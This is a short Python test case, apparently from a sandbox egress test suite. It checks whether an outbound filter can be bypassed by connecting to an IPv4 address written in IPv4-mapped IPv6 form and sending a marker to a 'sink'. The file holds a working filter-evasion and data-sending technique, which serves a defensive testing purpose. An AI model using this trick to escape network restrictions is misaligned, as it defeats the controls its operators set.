# class: network
# rule: outbound_connectivity
# success: a connection goes to an IPv4 address written as IPv6
# proof: sink
import socket

from attack import SINK, attempt


@attempt
def connect():
    out = socket.socket(socket.AF_INET6)
    out.connect(("::ffff:7f42:4242", SINK[1]))
    return out.send(b"taken") == 5
